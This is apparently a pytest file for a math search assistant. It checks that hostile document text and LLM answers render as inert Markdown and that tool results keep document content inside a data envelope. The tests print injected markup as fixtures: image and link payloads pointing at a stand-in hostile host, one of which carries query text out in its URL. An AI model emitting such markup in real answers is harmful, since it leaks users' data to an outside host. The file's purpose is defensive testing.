"""Text from documents is data, never markup (issue: reliability).

Escaped document text and sanitised answers are rendered with a real Markdown renderer (markdown-it, raw
HTML enabled, as permissive as a page could be) and must give no link, image or HTML element; math stays
math. The offline answer over an index holding a hostile document, the LLM path over the real local
OpenAI-protocol server, the tools' data envelope and deterministic snippets are checked end to end."""

from __future__ import annotations

import json
import re
import subprocess
import sys

import pytest
from markdown_it import MarkdownIt

from mathscout.markup import document_markdown, safe_math, sanitize_answer
from tests.support.cli import REPO
from tests.support.corpora import EVIL, HOSTILE_ID, HOSTILE_PIECES

RENDER = MarkdownIt("commonmark", {"html": True})


def rendered(markdown: str) -> str:
    return RENDER.render(markdown)


def assert_inert(html: str) -> None:
    """No element that fetches or links anything; nothing from the hostile host as an attribute."""
    for tag in ("<a ", "<img", "<script", "<iframe"):
        assert tag not in html, html
    assert not re.search(r"(href|src)=\"[^\"]*" + re.escape(EVIL), html), html


@pytest.mark.parametrize("piece", HOSTILE_PIECES)
def test_each_hostile_piece_of_document_text_renders_inert(piece):
    assert_inert(rendered(document_markdown(piece)))
    assert_inert(rendered(sanitize_answer(piece)))


def test_document_text_keeps_its_math_and_our_highlights():
    text = document_markdown("Use **$x^2+1$** when $a<b$ and [3, 4]; **bold** word", keep_marks=True)
    assert "**$x^2+1$**" in text and "$a\\lt b$" in text and "**bold**" in text
    assert "&#91;3, 4&#93;" in text
    assert safe_math("\\href{u}{x} + y") == "\\text{href}{u}{x} + y"


def test_an_answer_keeps_its_citations_and_math_but_loses_links():
    answer = f"The rule holds [645931] when $a \\geq 0$; see ![p](http://{EVIL}/a.png) and [here](http://{EVIL})."
    clean = sanitize_answer(answer)
    assert "[645931]" in clean and "$a \\geq 0$" in clean
    assert_inert(rendered(clean))


# --- end to end over a real index ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_index(tiny_index):
    return tiny_index  # the tiny index the tests share (tests/conftest.py) holds the hostile document


def test_the_offline_answer_quotes_a_hostile_document_as_text(hostile_index):
    from mathscout.agent import MathScout

    answer = MathScout(hostile_index, use_llm=False).ask("When is $\\sqrt{ab}=\\sqrt{a}\\sqrt{b}$ true? click me", k=5)
    assert HOSTILE_ID in answer.citations or any(h.doc_id == HOSTILE_ID for h in answer.hits)
    assert "sqrt" in answer.text
    assert_inert(rendered(answer.text))


def test_an_llm_answer_with_injected_markup_is_sanitised(hostile_index):
    from mathscout.agent.assistant import Assistant
    from mathscout.agent.config import LLMConfig
    from tests.support.fake_openai import FakeOpenAI, Text, ToolCalls

    def model(request):
        if not request.tool_results:
            return ToolCalls([("structure_search", {"formula": "\\sqrt{ab}=\\sqrt{a}\\sqrt{b}", "k": 5})])
        return Text(
            f"It holds for $a, b \\geq 0$ [{HOSTILE_ID}]. ![leak](http://{EVIL}/q?=When+is) "
            f"<img src=http://{EVIL}/y.png> [more](http://{EVIL}/more)"
        )

    with FakeOpenAI(model) as server:
        config = LLMConfig(api_key="test-key", base_url=server.base_url, model="fake-gpt", timeout=10, max_retries=0)
        answer = Assistant(hostile_index, config=config).ask("When is $\\sqrt{ab}=\\sqrt{a}\\sqrt{b}$ true?", k=5)
        tool_result = server.requests[-1].tool_results[-1]
    assert answer.planner == "llm:fake-gpt" and answer.citations == [HOSTILE_ID]
    assert_inert(rendered(answer.text))
    envelope = json.loads(tool_result)
    assert HOSTILE_ID not in envelope["summary"] and "documents" in envelope
    assert any(h["id"] == HOSTILE_ID for h in envelope["documents"]["hits"])


def test_get_document_puts_id_formulas_and_text_inside_the_envelope(hostile_index):
    from mathscout.tools.langchain_adapter import render_result
    from mathscout.tools.toolbox import ToolBox

    output = ToolBox(hostile_index).get_document(HOSTILE_ID)
    result = json.loads(render_result("get_document", output.summary, output.payload, output.notices, None))
    outside = {k: v for k, v in result.items() if k != "documents"}
    assert HOSTILE_ID not in json.dumps(outside) and EVIL not in json.dumps(outside)
    assert result["documents"]["id"] == HOSTILE_ID and result["documents"]["formulas"]
    assert "data_notice" in result


def test_snippets_are_the_same_whatever_the_hash_seed(hostile_index):
    script = (
        "import sys, json; from mathscout.agent import MathScout; "
        "hits = MathScout(sys.argv[1], use_llm=False).search('$\\\\sqrt{ab}$ theorem real', mode='bm25', k=10); "
        "print(json.dumps([[h.doc_id, h.snippet] for h in hits]))"
    )
    outputs = set()
    for seed in ("1", "2", "3"):
        result = subprocess.run(
            [sys.executable, "-c", script, str(hostile_index)],
            capture_output=True,
            text=True,
            cwd=REPO,
            env={**__import__("os").environ, "PYTHONHASHSEED": seed},
            timeout=300,
        )
        assert result.returncode == 0, result.stderr[-2000:]
        outputs.add(result.stdout.strip().splitlines()[-1])
    assert len(outputs) == 1
